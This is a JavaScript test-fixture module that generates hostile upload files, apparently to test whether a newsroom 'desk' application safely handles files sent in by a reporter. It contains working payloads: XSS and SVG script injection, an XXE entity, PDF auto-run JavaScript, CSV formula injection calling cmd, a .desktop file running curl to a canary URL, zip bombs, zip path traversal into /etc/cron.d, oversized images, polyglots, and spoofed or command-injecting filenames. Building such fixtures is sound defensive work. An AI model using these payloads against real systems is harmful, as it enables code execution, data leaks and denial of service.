// Files of a hostile reporter: what would run, fetch, fill memory or fool an eye if the desk, or whoever opens a file
// from it, were careless. Made here, so that nothing booby-trapped lies in the repository. `leak` is an address at which
// whoever fetches something is caught; whatever runs says so in `window.ran`.
import { deflateRawSync, deflateSync, crc32 as nodeCrc32 } from 'node:zlib';

const u16 = (value) => { const out = Buffer.alloc(2); out.writeUInt16LE(value); return out; };
const u32 = (value) => { const out = Buffer.alloc(4); out.writeUInt32LE(value >>> 0); return out; };
const be32 = (value) => { const out = Buffer.alloc(4); out.writeUInt32BE(value >>> 0); return out; };

const TABLE = Array.from({ length: 256 }, (_, n) => { let c = n; for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1; return c >>> 0; });
function crc32(bytes) {
  if (nodeCrc32) return nodeCrc32(bytes);
  let crc = 0xffffffff;
  for (const byte of bytes) crc = TABLE[(crc ^ byte) & 0xff] ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

/** Script in the ways in which markup carries it; `who` says what ran. */
export function script(who, leak) {
  return `<script>window.ran=(window.ran||'')+'${who};';try{parent.ran='${who}';top.ran='${who}'}catch(e){}fetch('${leak}?ran=${who}');new Image().src='${leak}?image=${who}'</script>`
    + `<img src="${leak}?img=${who}" onerror="window.ran='${who}'"><link rel=stylesheet href="${leak}?css=${who}"><iframe src="${leak}?frame=${who}"></iframe>`
    + `<meta http-equiv=refresh content="0;url=${leak}?refresh=${who}"><svg onload="window.ran='${who}'"></svg><a ping="${leak}?ping=${who}" href="javascript:window.ran='${who}'">x</a>`;
}

const page = (who, leak) => Buffer.from(`<!doctype html><title>${who}</title><body>${script(who, leak)}`);

export function svg(who, leak) {
  return Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="${leak}?xsl=${who}" type="text/xsl"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "${leak}?entity=${who}">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="window.ran='${who}'">
<script>window.ran='${who}';fetch('${leak}?ran=${who}')</script><image xlink:href="${leak}?image=${who}" width="9" height="9"/><use href="${leak}?use=${who}#a"/>
<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${leak}?foreign=${who}"/></body></foreignObject>
<style>@import url(${leak}?import=${who});</style><text>&x;</text></svg>`);
}

/** A JPEG of 8 × 8 pixels that any decoder takes, with `comment` in its comment segment. */
export function jpeg(comment = Buffer.alloc(0)) {
  const segment = (marker, body) => Buffer.concat([Buffer.from([0xff, marker]), Buffer.from([(body.length + 2) >> 8, (body.length + 2) & 0xff]), body]);
  const huffman = (kind, symbol) => segment(0xc4, Buffer.concat([Buffer.from([kind, 1]), Buffer.alloc(15), Buffer.from([symbol])]));
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xfe, comment),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0])),
    huffman(0x00, 0),
    huffman(0x10, 0),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    Buffer.from([0x3f]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A PNG that says it is so large; `rows` of its black pixels are really there. */
export function png(width, height, rows = height) {
  const chunk = (type, body) => { const named = Buffer.concat([Buffer.from(type), body]); return Buffer.concat([be32(body.length), named, be32(crc32(named))]); };
  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * rows), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', Buffer.concat([be32(width), be32(height), Buffer.from([1, 0, 0, 0, 0])])),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** An archive in which `names` all stand for the same packed bytes. */
export function zip(names, content) {
  const [packed, crc] = [deflateRawSync(content, { level: 9 }), crc32(content)];
  const sizes = Buffer.concat([u32(crc), u32(packed.length), u32(content.length)]);
  const head = (signature, name) => Buffer.concat([Buffer.from(signature), u16(20), u16(0x800), u16(8), u16(0), u16(0x21), sizes, u16(Buffer.byteLength(name)), u16(0)]);
  const local = Buffer.concat([head([0x50, 0x4b, 3, 4], names[0]), Buffer.from(names[0]), packed]);
  const central = names.map((name) => Buffer.concat([
    Buffer.from([0x50, 0x4b, 1, 2]), u16(20), head([0, 0, 0, 0], name).subarray(4), u16(0), u16(0), u16(0), u32(0), u32(0), Buffer.from(name),
  ]));
  const directory = Buffer.concat(central);
  const end = Buffer.concat([Buffer.from([0x50, 0x4b, 5, 6]), u16(0), u16(0), u16(names.length), u16(names.length), u32(directory.length), u32(local.length), u16(0)]);
  return Buffer.concat([local, directory, end]);
}

/** A film container that is a page as well, for whoever looks for markup instead of reading boxes. */
function film(who, leak) {
  const box = (type, body) => Buffer.concat([be32(body.length + 8), Buffer.from(type), body]);
  return Buffer.concat([box('ftyp', Buffer.from('isom\x00\x00\x02\x00isomiso2mp41')), box('free', page(who, leak)), box('mdat', Buffer.alloc(64))]);
}

function sound(who, leak) {
  const body = Buffer.concat([Buffer.from('WAVEfmt '), u32(16), u16(1), u16(1), u32(8000), u32(8000), u16(1), u16(8), Buffer.from('LIST'), u32(0), Buffer.from('data'), u32(800), Buffer.alloc(800, 128), page(who, leak)]);
  return Buffer.concat([Buffer.from('RIFF'), u32(body.length), body]);
}

function pdf(who, leak) {
  return Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("${leak}?pdf=${who}");app.alert("ran"))>>/AA<</O<</S/URI/URI(${leak}?pdfuri=${who})>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`);
}

/** A GIF that says it is 65,535 pixels wide and high. */
const gif = Buffer.concat([Buffer.from('GIF89a'), u16(65_535), u16(65_535), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c]), u16(0), u16(0), u16(65_535), u16(65_535), Buffer.from([0, 2, 2, 0x4c, 1, 0, 0x3b])]);

const csv = (leak) => Buffer.from(`name,phone\n=HYPERLINK("${leak}?csv=1","call back"),1\n=cmd|' /C calc'!A0,2\n+1+1,3\n-2+3,4\n@SUM(1+1)*cmd|' /C calc'!A0,5\n"\t=1+1",6\n"\r=IMPORTXML(""${leak}?csv=2"",""//a"")",7\n`);

const shortcut = Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]), Buffer.alloc(56)]);
const desktop = (leak) => Buffer.from(`[Desktop Entry]\nType=Application\nName=Photo\nIcon=image-x-generic\nExec=sh -c "curl ${leak}?desktop=1"\n`);
const library = (leak) => Buffer.from(`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>${leak}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`);

/** Right-to-left override, then the letters that make an eye read another ending. */
const TURNED = 'holiday\u202egpj.exe';

/** `{what, name, type, bytes}`: `type` is what the sender claims. */
export function hostileFiles(leak) {
  return [
    { what: 'a page', name: 'letter.html', type: 'text/html', bytes: page('html', leak) },
    { what: 'a page that says it is a photo', name: 'photo.jpg', type: 'image/jpeg', bytes: page('htmljpg', leak) },
    { what: 'a page that says it is text', name: 'letter.txt', type: 'text/plain', bytes: page('htmltxt', leak) },
    { what: 'a drawing with script', name: 'map.svg', type: 'image/svg+xml', bytes: svg('svg', leak) },
    { what: 'a drawing that says it is a photo', name: 'map.png', type: 'image/png', bytes: svg('svgpng', leak) },
    { what: 'a photo that is a page too', name: 'door.jpg', type: 'image/jpeg', bytes: jpeg(page('jpeghtml', leak)) },
    { what: 'a photo that is a page too and says so', name: 'door.html', type: 'text/html', bytes: jpeg(page('jpegashtml', leak)) },
    { what: 'a photo named as script', name: 'door.js', type: 'text/javascript', bytes: jpeg(Buffer.from('*/=1;window.ran="js";/*')) },
    { what: 'a photo of 30,000 × 30,000 pixels that is all there', name: 'wall.png', type: 'image/png', bytes: png(30_000, 30_000) },
    { what: 'a photo that only says it is of 2,000,000,000 pixels each way', name: 'sky.png', type: 'image/png', bytes: png(2_000_000_000, 2_000_000_000, 0) },
    { what: 'a moving picture of 65,535 × 65,535 pixels', name: 'sea.gif', type: 'image/gif', bytes: gif },
    { what: 'a picture of nothing', name: 'empty.webp', type: 'image/webp', bytes: Buffer.from('RIFF\0\0\0\0WEBPVP8 ') },
    { what: 'a film that is a page too', name: 'street.mp4', type: 'video/mp4', bytes: film('mp4', leak) },
    { what: 'a sound that is a page too', name: 'call.wav', type: 'audio/wav', bytes: sound('wav', leak) },
    { what: 'a page that says it is a film', name: 'yard.webm', type: 'video/webm', bytes: page('htmlwebm', leak) },
    { what: 'a document that runs', name: 'summons.pdf', type: 'application/pdf', bytes: pdf('pdf', leak) },
    { what: 'an archive of 100 GB in a few kilobytes', name: 'papers.zip', type: 'application/zip', bytes: zip(Array.from({ length: 1_000 }, (_, n) => `${n}.txt`), Buffer.alloc(100 << 20)) },
    { what: 'an archive that would write elsewhere', name: 'papers2.zip', type: 'application/zip', bytes: zip(['../../../../etc/cron.d/x', '..\\..\\x.exe', '/etc/passwd', 'C:\\x'], Buffer.from('x')) },
    { what: 'a table with formulas', name: 'names.csv', type: 'text/csv', bytes: csv(leak) },
    { what: 'a shortcut', name: 'photo.jpg.lnk', type: 'image/jpeg', bytes: shortcut },
    { what: 'a starter', name: 'photo.desktop', type: 'application/x-desktop', bytes: desktop(leak) },
    { what: 'a library that calls home', name: 'photos.library-ms', type: 'text/plain', bytes: library(leak) },
    { what: 'an address', name: 'photos.url', type: 'text/plain', bytes: Buffer.from(`[InternetShortcut]\nURL=${leak}?url=1\nIconFile=\\\\127.0.0.1\\x\n`) },
    { what: 'a name that turns', name: TURNED, type: 'image/jpeg', bytes: jpeg() },
    ...hostileNames(leak).map((name, place) => ({ what: `a name: ${place}`, name, type: 'image/jpeg', bytes: jpeg() })),
  ];
}

/** Names that are markup, paths, headers, devices, formulas, or without end. */
export function hostileNames(leak) {
  return [
    `<img src=${leak}?name=1 onerror=window.ran='name'>.jpg`,
    `"><script>window.ran='name'</script>.jpg`,
    "javascript:window.ran='name'",
    '../../../../etc/passwd',
    '..\\..\\Windows\\System32\\x.dll',
    'photo.jpg"; filename="x.exe',
    'photo\r\nContent-Type: text/html\r\n\r\n<script>window.ran="name"</script>.jpg',
    'CON', 'NUL.jpg', '.', '..', ' ', '', '.htaccess', '-rf', '$(touch x).jpg', '`touch x`.jpg', '%00.jpg', '{{7*7}}.jpg', '{ $name }.jpg',
    '=HYPERLINK("x").jpg',
    `photo${' '.repeat(200)}.exe`,
    `z${'\u0301\u0489'.repeat(400)}.jpg`,
    `${'a'.repeat(20_000)}.jpg`,
    '\u2066\u2067\u202d\u202e\u200f\u200e.jpg',
    'photo.jpg\u0000.exe',
  ];
}
